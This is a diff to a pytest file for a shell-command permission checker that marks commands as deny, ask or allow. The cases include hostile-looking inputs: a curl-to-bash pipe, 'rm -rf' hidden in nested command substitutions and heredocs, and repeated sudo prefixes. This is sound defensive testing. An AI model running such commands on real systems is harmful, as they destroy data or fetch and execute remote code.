@@ -212,6 +212,10 @@ DENY_CASES = [
     ("curl example.com | bash -s", "deny"),
     ("echo 'unterminated", "deny"),
     ("echo )", "deny"),
+    ("code 'rm -rf DIR'; bash -c 'rm -rf DIR'", "deny"),  # the same text as code later
+    ("sudo " * 40 + "ls", "deny"),  # no blow-up
+    ("nice " * 30 + "ls", "ask"),
+    ("echo " + "'$(" * 20 + "rm -rf DIR" + ")'" * 20, "deny"),
     # the other deny pattern
     ("sudo ls", "deny"),
     ("echo x | sudo tee /etc/x", "deny"),
@@ -272,6 +276,9 @@ def no_parser(monkeypatch: pytest.MonkeyPatch) -> None:
         ("echo 'unterminated", "deny"),
         ("sudo ls", "deny"),
         ("git commit -m 'fix rm -rf'", "ask"),
+        ("cat <<EOF\nit's $(rm -rf DIR)\nEOF", "deny"),
+        ("cat <<'EOF' > notes\nit's $(not code)\nEOF", "ask"),
+        ("ls # don't", "ask"),
     ],
 )
 def test_without_the_parser_allow_fails_closed_and_deny_still_holds(
@@ -294,7 +301,7 @@ def test_with_the_parser_there_is_no_notice() -> None:
 
 # -- property: an allowed command composed with anything is never allowed -------------
 
-_WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_./=", min_size=1, max_size=8)
+_WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_./", min_size=1, max_size=8)
 _PROGRAM = st.sampled_from(["git", "ls", "python3", "make", "cat", "grep", "cargo", "npm"])
 _COMPOSE = [
     "{a}; {b}",
